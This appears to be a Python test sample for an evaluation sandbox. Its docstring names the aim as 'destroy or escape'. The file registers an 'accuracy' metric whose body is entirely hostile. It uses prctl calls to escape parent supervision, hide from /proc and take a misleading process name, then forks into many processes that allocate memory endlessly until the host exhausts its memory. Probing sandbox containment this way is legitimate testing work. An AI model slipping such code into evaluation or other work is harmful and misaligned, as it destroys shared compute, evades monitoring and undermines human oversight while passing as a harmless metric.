"""Takes back what kills it with its warden, hides its memory count, and grows.

Aim: destroy or escape
Expect: out_of_memory, crashed, refused
"""

import ctypes
import os

from fashionlab import evaluation, solves


@solves(evaluation.accuracy)
def accuracy(probabilities, labels):
    libc = ctypes.CDLL(None)
    libc.prctl(1, 0, 0, 0, 0)  # no signal when the parent dies
    libc.prctl(4, 0, 0, 0, 0)  # not dumpable: /proc hides the details
    libc.prctl(15, b"Threads: 0", 0, 0, 0)
    for _ in range(4):
        os.fork()
    taken = []
    while True:
        taken.append(bytearray(b"x" * (8 * 1024 * 1024)))
